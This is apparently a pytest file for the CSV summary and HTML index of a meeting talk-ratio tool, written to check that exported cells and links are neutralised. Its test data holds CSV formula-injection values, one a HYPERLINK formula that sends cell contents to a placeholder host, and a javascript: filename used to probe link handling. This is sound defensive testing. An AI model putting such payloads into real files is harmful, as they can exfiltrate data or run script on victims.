"""The folder overview (index.html) and summary.csv: what a manager reads per meeting, and
what a spreadsheet does with the file (issue 19 item 7, issue 20 items 9 and 10)."""
from __future__ import annotations

import csv
import re
from urllib.parse import urljoin

from fixtures import sample_report
from talkratio.render.index import CSV_FIELDS, FORMULA_START, meeting_row, render_index, summary_csv, trends
from test_render import Elements

HOSTILE = ["=2+5.wav", '=HYPERLINK("http://x.example/?"&A1,"klick")', "+46 70.wav", "-1.wav", "@SUM(A1).wav",
           "\tx.wav", "\rx.wav"]


def _row(file="m.wav", link="m.html", **changes):
    return {**meeting_row(sample_report("sv"), file, link), "host_named": True, **changes}


def _parse(text: str, delimiter: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(text[1:].splitlines(), delimiter=delimiter))


def test_swedish_summary_opens_in_columns_with_decimal_commas():
    rows = [_row(host_share=0.3803, file="möte; del 1.wav"), _row(host_share=None)]
    table = _parse(summary_csv(rows, "sv"), ";")
    assert all(len(r) == len(CSV_FIELDS) for r in table)
    cells = dict(zip(table[0], table[1]))
    assert cells["ledarens_andel"] == "0,3803" and cells["fil"] == "möte; del 1.wav"   # the ; is quoted, not a split
    assert cells["behov_frågade"] == "3" and cells["syfte_sagt"] == "true"
    english = _parse(summary_csv(rows, "en"), ",")
    assert dict(zip(english[0], english[1]))["host_share"] == "0.3803"


def test_summary_column_names_follow_the_language():
    """English: the row's own keys, as scripts know them; Swedish: Swedish names, each its own column."""
    english = _parse(summary_csv([_row()], "en"), ",")[0]
    swedish = _parse(summary_csv([_row()], "sv"), ";")[0]
    assert english == list(CSV_FIELDS)
    assert len(set(swedish)) == len(CSV_FIELDS) and not set(swedish) & set(CSV_FIELDS)
    assert swedish[:4] == ["fil", "rapport", "datum", "datumkälla"] and "mötesledare" in swedish
    assert all(re.fullmatch(r"[a-zåäö_]+", name) for name in swedish)   # one word each: easy to name in a script


def test_no_cell_of_the_summary_can_become_a_formula():
    rows = [_row(file=name, host=name, report=name + ".html", transcript=name) for name in HOSTILE]
    for lang, sep in (("sv", ";"), ("en", ",")):
        table = _parse(summary_csv(rows, lang), sep)
        texts = [c for r in table[1:] for c in r]
        assert not [c for c in texts if c.startswith(FORMULA_START)]
        assert sum(c.startswith("'=") for c in texts) >= 8          # shown as text, still readable
    assert _parse(summary_csv([_row(duration_s=-0.0)], "en"), ",")   # numbers stay numbers


def test_index_links_are_relative_even_for_a_file_named_like_a_scheme():
    rows = [_row("javascript:alert(document.domain).wav", "javascript:alert(document.domain).html"),
            _row("möte 2.wav", "sub/möte 2.html")]
    dom = Elements(render_index(rows, [], "sv"))
    hrefs = [a["href"] for a in dom.having("a") if a.get("href") and not a["href"].startswith("#")]
    assert hrefs == ["./javascript%3Aalert%28document.domain%29.html", "./sub/m%C3%B6te%202.html"]
    assert all(urljoin("file:///out/index.html", h).startswith("file:///out/") for h in hrefs)


def test_index_shows_needs_purpose_and_questions_per_meeting():
    page = render_index([_row(), _row("n.wav", "n.html", needs_asked=1, needs_uncertain=1, purpose=False,
                                      questions_open=0, questions_closed=2)], [], "sv")
    dom = Elements(page)
    text = " ".join(dom.text)
    assert "Behovsanalys" in text and "Syfte" in text and "Frågor" in text
    needs = [" ".join(Elements(page[page.index(f'data-file="{f}"'):]).text[:40]) for f in ("m.wav", "n.wav")]
    assert "3 av 4" in needs[0] and "1 av 4" in needs[1] and "(+1 osäker)" in needs[1]
    assert "0 öppna · 2 slutna" in needs[1] and "Nej" in needs[1]


def test_trends_never_pool_leaders_without_a_name():
    rows = [_row(date="2025-01-10", host="Anna"), _row(date="2025-01-12", host="SPEAKER_00", host_named=False),
            _row(date="2025-01-14", host="SPEAKER_01", host_named=False)]
    _, charts = trends(rows, "sv")
    assert {line.host for c in charts for line in c.lines} == {"Anna"}
    page = " ".join(Elements(render_index(rows, [], "sv")).text)
    assert "2 möten vars mötesledare saknar namn visas inte i trenderna" in page
